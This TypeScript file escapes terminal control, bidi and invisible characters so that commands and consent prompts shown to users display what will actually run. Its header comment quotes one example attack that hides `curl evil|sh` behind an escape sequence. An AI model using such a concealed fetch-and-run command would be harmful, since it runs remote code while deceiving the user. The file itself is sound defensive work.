// Model-written text made safe to show: the rules of the server's tooling/display.py, so what
// the user reads of a command is what will run. An ESC sequence, a carriage return or a bidi
// override can hide or reorder part of a command (`git fetch #<ESC>[8m<newline>curl evil|sh`
// shows as `git fetch #` on a terminal); each such character is spelled out instead:
// ESC -> `\e`, CR -> `\r`, a newline -> `⏎` (unless kept), other C0/DEL/C1 controls -> `\xNN`,
// bidi, invisible and format characters -> `\uXXXX` (`\u{XXXXX}` beyond U+FFFF); tabs stay.
// Escaping twice changes nothing, so text the server already escaped may be escaped again.

export const NEWLINE_MARK = "⏎";

// Bidi, zero-width and every other format character (Cf), the line and paragraph separators,
// lone surrogates, the Hangul fillers and the tag characters: tooling/display.py's ranges.
const INVISIBLE =
  "\\u00ad\\u0600-\\u0605\\u061c\\u06dd\\u070f\\u0890\\u0891\\u08e2\\u115f\\u1160\\u180e\\u200b-\\u200f\\u2028-\\u202e" +
  "\\u2060-\\u2064\\u2066-\\u206f\\u3164\\ud800-\\udfff\\ufeff\\uffa0\\ufff9-\\ufffb\\u{110bd}\\u{110cd}" +
  "\\u{13430}-\\u{1343f}\\u{1bca0}-\\u{1bca3}\\u{1d173}-\\u{1d17a}\\u{e0000}-\\u{e007f}";
// Only in what the user consents to: private use and variation selectors.
const CONSENT_ONLY = "\\u034f\\u17b4\\u17b5\\u180b-\\u180d\\u180f\\u2065\\ue000-\\uf8ff\\ufe00-\\ufe0f\\u{e0100}-\\u{e01ef}\\u{f0000}-\\u{10ffff}";
const CONTROLS = new RegExp(`[\\x00-\\x08\\x0a-\\x1f\\x7f-\\x9f${INVISIBLE}]`, "gu");
const CONTROLS_BUT_NEWLINE = new RegExp(`[\\x00-\\x08\\x0b-\\x1f\\x7f-\\x9f${INVISIBLE}]`, "gu");
const CONSENT = new RegExp(`[\\x00-\\x08\\x0a-\\x1f\\x7f-\\x9f${INVISIBLE}${CONSENT_ONLY}]`, "gu");
const CONSENT_BUT_NEWLINE = new RegExp(`[\\x00-\\x08\\x0b-\\x1f\\x7f-\\x9f${INVISIBLE}${CONSENT_ONLY}]`, "gu");
// More than CONSENT_BLANK_RUN blanks in a row show as one marker, "␣×N".
export const CONSENT_BLANK_RUN = 3;
const BLANK_RUN = new RegExp(`[ \\t\\u00a0\\u1680\\u2000-\\u200a\\u202f\\u205f\\u2800\\u3000]{${CONSENT_BLANK_RUN + 1},}`, "g");

function spelled(char: string): string {
  if (char === "\x1b") return "\\e";
  if (char === "\r") return "\\r";
  if (char === "\n") return NEWLINE_MARK;
  const code = char.codePointAt(0) ?? 0;
  if (code < 0xa0) return `\\x${code.toString(16).padStart(2, "0")}`;
  return code <= 0xffff ? `\\u${code.toString(16).padStart(4, "0")}` : `\\u{${code.toString(16)}}`;
}

export function escapeControl(text: string, options: { keepNewlines?: boolean } = {}): string {
  return text.replace(options.keepNewlines ? CONTROLS_BUT_NEWLINE : CONTROLS, spelled);
}

/**
 * What the user is asked to allow (a permission's title, command, paths; an MCP server's
 * approval): escapeControl, private-use characters and variation selectors spelled out too,
 * and a run of more than CONSENT_BLANK_RUN blanks shown as `␣×N` (tooling/display.py
 * escape_consent).
 */
export function escapeConsent(text: string, options: { keepNewlines?: boolean } = {}): string {
  const escaped = text.replace(options.keepNewlines ? CONSENT_BUT_NEWLINE : CONSENT, spelled);
  return escaped.replace(BLANK_RUN, (run) => `␣×${run.length}`);
}
